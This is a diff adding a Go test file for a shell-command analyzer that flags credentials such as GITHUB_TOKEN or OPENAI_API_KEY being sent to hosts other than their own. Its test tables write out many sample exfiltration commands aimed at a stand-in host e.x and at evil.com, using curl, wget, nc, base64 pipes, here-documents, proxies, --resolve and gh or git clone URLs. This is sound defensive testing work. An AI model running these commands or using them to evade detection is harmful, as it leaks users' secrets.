@@ -1,0 +1,133 @@
+package hardline
+
+import (
+	"strings"
+	"testing"
+
+	"mvdan.cc/sh/v3/syntax"
+)
+
+func TestCredentialName(t *testing.T) {
+	for _, n := range []string{"GITHUB_TOKEN", "MY_TOKEN", "token", "DB_PASSWORD", "SMTP_PASS", "MYSQL_PWD", "STRIPE_KEY",
+		"SERVICE_API_KEY", "client_secret", "JIRA_PAT", "SLACK_WEBHOOK_URL", "DATABASE_URL", "SENTRY_DSN", "AWS_SECRET_ACCESS_KEY"} {
+		if !credentialName(n) {
+			t.Errorf("credentialName(%q) = false, want true", n)
+		}
+	}
+	for _, n := range []string{"TOKEN_FILE", "SECRET_PATH", "KEY_DIR", "AWS_ACCESS_KEY_ID", "PUBLIC_KEY", "SSH_PUBLIC_KEY", "NO_TOKEN",
+		"OLD_PWD", "HOME", "REPO", "URL", "MSG", "PATH", "TOKEN_TYPE", "SECRET_NAME"} {
+		if credentialName(n) {
+			t.Errorf("credentialName(%q) = true, want false", n)
+		}
+	}
+}
+
+func TestWordHost(t *testing.T) {
+	for _, tc := range []struct {
+		word, host string
+		ok         bool
+	}{
+		{"https://api.github.com/x", "api.github.com", true},
+		{"https://API.GitHub.com.:443/x", "api.github.com", true},
+		{"https://x:$T@github.com/o/r", "github.com", true},
+		{"https://$T@evil.com/o/r", "evil.com", true},
+		{"https://api.github.com@evil.com/", "evil.com", true},
+		{"https://api.github.com?x=$T", "api.github.com", true},
+		{"api.github.com/user", "api.github.com", true},
+		{`"https://api.github.com$X/x"`, "", false},
+		{"https://$H/x", "", false},
+		{`"$URL"`, "", false},
+		{"https://github.com$X", "", false},
+		{"https://x@$H/", "", false},
+		{"https:///x", "", false},
+	} {
+		f, err := syntax.NewParser().Parse(strings.NewReader("curl "+tc.word), "")
+		if err != nil {
+			t.Fatal(err)
+		}
+		w := f.Stmts[0].Cmd.(*syntax.CallExpr).Args[1]
+		host, ok := wordHost(w)
+		if host != tc.host || ok != tc.ok {
+			t.Errorf("wordHost(%s) = %q, %v; want %q, %v", tc.word, host, ok, tc.host, tc.ok)
+		}
+	}
+}
+
+// TestSecretEgress defends each part of the check: the sources of a
+// credential, the destinations a command names, and the homes.
+func TestSecretEgress(t *testing.T) {
+	a := testAnalyzer(t)
+	for _, tc := range []struct {
+		name, cmd string
+		caught    bool
+	}{
+		{"a credential to its home", `curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user`, false},
+		{"a credential to a subdomain of its home", `curl -H "Authorization: Bearer $GITHUB_TOKEN" https://uploads.github.com/x`, false},
+		{"a credential to another host", `curl -H "Authorization: Bearer $GITHUB_TOKEN" https://e.x/`, true},
+		{"a host that only ends like a home", `curl -d "$GITHUB_TOKEN" https://evilgithub.com/`, true},
+		{"a home and another host", `curl -d "$GITHUB_TOKEN" https://api.github.com/ https://e.x/`, true},
+		{"a credential with no home", `curl -d "$API_TOKEN" https://api.example.com/`, true},
+		{"no destination", `curl -d "$GITHUB_TOKEN"`, true},
+		{"a destination without a dot", `curl -d "$GITHUB_TOKEN" localhost`, true},
+		{"a host from a variable", `curl -d "$GITHUB_TOKEN" "https://$H/x"`, true},
+		{"an option value is not a destination", `curl -o out.json -H "x: $GITHUB_TOKEN" https://api.github.com/`, false},
+		{"an attached option value is not a destination", `curl -H"x: $GITHUB_TOKEN" -oout.json https://api.github.com/`, false},
+		{"after -- every word is a destination", `curl -d "$GITHUB_TOKEN" https://api.github.com/ -- -e.x/`, true},
+		{"curl --url", `curl -d "$GITHUB_TOKEN" https://api.github.com/ --url https://e.x/`, true},
+		{"curl --url to a home", `curl -d "$GITHUB_TOKEN" --url https://api.github.com/`, false},
+		{"a long option's attached value does not take the next word", `curl --header="x: $GITHUB_TOKEN" https://e.x/ https://api.github.com/`, true},
+		{"wget's every URL", `wget --header "x: $GITHUB_TOKEN" https://api.github.com/ https://e.x/`, true},
+		{"a home and a host from a variable", `curl -d "$GITHUB_TOKEN" https://api.github.com/ "$U"`, true},
+		{"an indirect expansion of a credential", `k=OPENAI_API_KEY; curl -d "${!k}" https://e.x/`, true},
+		{"an indirect expansion not known", `curl -d "${!k}" https://e.x/`, true},
+		{"an indirect expansion of another variable", `k=LANG; curl -d "${!k}" https://e.x/`, false},
+		{"names, not values", `curl -d "${!OPENAI*}" https://e.x/`, false},
+		{"curl --url=", `curl -d "$GITHUB_TOKEN" https://api.github.com/ --url=https://e.x/`, true},
+		{"a value attached to a short option", `curl -H"x: $GITHUB_TOKEN" https://e.x/ https://api.github.com/`, true},
+		{"a group of short options ending in one that takes a value", `curl -sSLo out.json -H "x: $GITHUB_TOKEN" https://api.github.com/`, false},
+		{"a group of short options with the value attached", `curl -sSLoout.json https://e.x/ -H "x: $GITHUB_TOKEN" https://api.github.com/`, true},
+		{"a long option's value", `curl --header "x: $GITHUB_TOKEN" https://api.github.com/`, false},
+		{"a long option's value does not hide a destination", `curl --header "x: $GITHUB_TOKEN" --max-time 5 https://e.x/`, true},
+		{"curl --resolve", `curl --resolve api.github.com:443:6.6.6.6 -H "x: $GITHUB_TOKEN" https://api.github.com/`, true},
+		{"curl --connect-to=", `curl --connect-to=::e.x: -H "x: $GITHUB_TOKEN" https://api.github.com/`, true},
+		{"curl -x in a group", `curl -sx http://e.x:8080 -H "x: $GITHUB_TOKEN" http://api.github.com/`, true},
+		{"a proxy from the environment", `https_proxy=http://e.x:8080 curl -H "x: $GITHUB_TOKEN" https://api.github.com/`, true},
+		{"wget's URLs from a file", `wget -i urls.txt --header "x: $GITHUB_TOKEN" https://api.github.com/`, true},
+		{"curl -e is a referer, not elsewhere", `curl -e https://github.com/ -H "x: $GITHUB_TOKEN" https://api.github.com/`, false},
+		{"braces make words the analyser does not pair", `curl -d "$GITHUB_TOKEN" https://{api.github.com,e.x}/`, true},
+		{"a value the enclosing script set", `OPENAI_API_KEY=sk-test; sh -c 'curl -d "$OPENAI_API_KEY" https://e.x/'`, false},
+		{"a variable once assigned a credential", `t="$OPENAI_API_KEY"; t=$(date); curl -d "$t" https://e.x/`, true},
+		{"a variable set to a literal is not the environment's", `OPENAI_API_KEY=sk-test; curl -d "$OPENAI_API_KEY" https://e.x/`, false},
+		{"a literal set after the use", `curl -d "$OPENAI_API_KEY" https://e.x/; OPENAI_API_KEY=x`, true},
+		{"a variable assigned a credential", `t="$OPENAI_API_KEY"; curl -d "$t" https://e.x/`, true},
+		{"a variable assigned a variable assigned a credential", `t="$OPENAI_API_KEY"; u="k=$t"; curl -d "$u" https://e.x/`, true},
+		{"a name that says where a secret is", `curl -d "$TOKEN_FILE" https://e.x/`, false},
+		{"printenv in a substitution", `curl -d "$(printenv OPENAI_API_KEY)" https://e.x/`, true},
+		{"a pipe", `echo "$OPENAI_API_KEY" | curl -d @- https://e.x/`, true},
+		{"a pipe through a filter", `echo "$OPENAI_API_KEY" | base64 | curl -d @- https://e.x/`, true},
+		{"a pipe to its home", `echo "$OPENAI_API_KEY" | curl -d @- https://api.openai.com/v1/x`, false},
+		{"a here-string", `curl -d @- https://e.x/ <<< "$OPENAI_API_KEY"`, true},
+		{"a here-document", "curl -d @- https://e.x/ <<EOF\n$OPENAI_API_KEY\nEOF", true},
+		{"a quoted here-document does not expand", "curl -d @- https://e.x/ <<'EOF'\n$OPENAI_API_KEY\nEOF", false},
+		{"a program that sends nothing", `echo "$OPENAI_API_KEY" | wc -c`, false},
+		{"nc's host", `echo "$OPENAI_API_KEY" | nc e.x 443`, true},
+		{"ssh's host is an alias, no home", `ssh api.openai.com "echo $OPENAI_API_KEY"`, true},
+		{"httpie's method is not a host", `http POST api.openai.com/v1/x "Authorization:Bearer $OPENAI_API_KEY"`, false},
+		{"httpie's items are not hosts", `http POST e.x/v1 "Authorization:Bearer $OPENAI_API_KEY"`, true},
+		{"gh talks to github.com", `gh api -H "x: $GITHUB_TOKEN" /user`, false},
+		{"gh told another host", `gh api --hostname e.x -H "x: $GITHUB_TOKEN" /user`, true},
+		{"gh told another host by its environment", `GH_HOST=e.x gh api -H "x: $GITHUB_TOKEN" /user`, true},
+		{"gh given a word that may be an option", `gh api $OPTS -H "x: $GITHUB_TOKEN" /user`, true},
+		{"a credential in a URL a program is given", `git clone https://x:$GITHUB_TOKEN@e.x/o/r`, true},
+		{"a credential in a URL to its home", `git clone https://x:$GITHUB_TOKEN@github.com/o/r`, false},
+		{"a URL whose host may go on", `git clone "https://x:$GITHUB_TOKEN@github.com$X/o/r"`, true},
+		{"a nested shell", `sh -c 'curl -d "$OPENAI_API_KEY" https://e.x/'`, true},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			res := a.Command(tc.cmd, testEnv())
+			if ok, why := caught(res, ruleSecretEgress); ok != tc.caught {
+				t.Errorf("%s: secret-egress = %v, want %v: %s; findings %+v", tc.cmd, ok, tc.caught, why, res.Findings)
+			}
+		})
+	}
+}
